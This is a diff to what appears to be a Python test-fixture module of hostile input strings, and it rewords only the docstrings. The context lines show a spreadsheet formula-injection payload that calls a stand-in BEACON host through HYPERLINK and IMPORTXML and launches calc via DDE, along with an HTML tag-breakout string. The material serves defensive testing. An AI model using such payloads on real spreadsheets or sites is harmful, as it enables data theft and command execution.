@@ -1,6 +1,6 @@
-"""Texts that try to run a script, to reach BEACON over the network, or to look like something else.
+"""Texts that try to run a script, contact BEACON over the network, or disguise themselves.
 
-BEACON stands for an address with its scheme. A script that runs sets `window.hacked`.
+BEACON stands for a URL. A script that runs sets `window.hacked`.
 """
 # ruff: noqa: E501 - an attack is easier to read on one line
 
@@ -118,6 +118,6 @@ PAYLOADS = {
     "a formula of a table": '=HYPERLINK("BEACON/formula", "x") =IMPORTXML("BEACON/xml", "//a") +1+cmd|\'/c calc\'!A0',
     "ends of everything": "</div></section></template></style></script><h1>Submit</h1>",
 }
-"""What a payload tries -> its text."""
+"""Attack -> its text."""
 
 HOSTILE = list(PAYLOADS.values())
